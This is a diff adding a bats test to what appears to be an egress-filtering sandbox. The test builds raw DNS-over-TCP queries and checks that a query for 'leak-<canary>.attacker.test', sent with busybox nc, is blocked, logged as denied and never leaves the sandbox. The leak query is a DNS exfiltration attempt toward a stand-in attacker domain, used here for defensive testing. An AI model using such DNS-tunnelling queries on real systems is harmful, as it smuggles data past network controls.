@@ -160,6 +160,46 @@ dns_questions ()
     || fail "under $CONTROL_RUNTIME the question should arrive: $(cat "$EGRESS_DNS_LOG")"
 }
 
+# dns_tcp_question NAME FILE: a DNS question (type A) for NAME as DNS over
+# TCP sends it (the length first), written to FILE.
+dns_tcp_question ()
+{
+  "$(_egress_python)" -c '
+import struct, sys
+q = struct.pack(">HHHHHH", 0x5a5a, 0x0100, 1, 0, 0, 0)
+q += b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[1].split(".")) + b"\0"
+q += struct.pack(">HH", 1, 1)
+open(sys.argv[2], "wb").write(struct.pack(">H", len(q)) + q)' "$1" "$2"
+}
+
+@test "transparent: DNS over TCP, to any server, meets the stub as well" {
+  new_canary
+  CANARY=${CANARY,,}
+  dns_tcp_question dns.test "$ROOTFS/q-allowed"
+  dns_tcp_question "leak-$CANARY.attacker.test" "$ROOTFS/q-leak"
+  # the test's DNS server answers UDP only: an answer over TCP is the stub's
+  # (rcode, the 4th byte's low bits, and the answers' count, after the
+  # length)
+  local script='for q in allowed leak; do
+      for s in 1.2.3.53 3ffe:213::53; do
+        printf "%s %s " $q $s
+        busybox nc -w 2 $s 53 </q-$q | busybox od -An -tu1 -j5 -N5 | busybox awk "{ print \$1 % 16, \$5 }"
+      done
+    done'
+  run_ct sh -c "$script"
+  has_line "allowed 1.2.3.53 0 1"
+  has_line "allowed 3ffe:213::53 0 1"
+  [[ $output != *"leak "*" 0 1"* ]] || fail "$output"
+  ! grep -q "$CANARY" "$EGRESS_DNS_LOG" || fail "a question left: $(grep "$CANARY" "$EGRESS_DNS_LOG")"
+  [[ $(audit_events dns | jq -s --arg c "$CANARY" 'map(select((.name // "") | contains($c))
+      | select(.decision == "deny")) | length') -eq 2 ]] || fail "$(audit_events dns)"
+
+  # the control: nothing answers DNS over TCP outside
+  requires_control
+  control_run sh -c "$script"
+  [[ $output != *" 0 1"* ]] || fail "$output"
+}
+
 @test "transparent: SNI or Host naming another name than the stub's answer is refused" {
   requires_curl
   local script="$NOPROXY
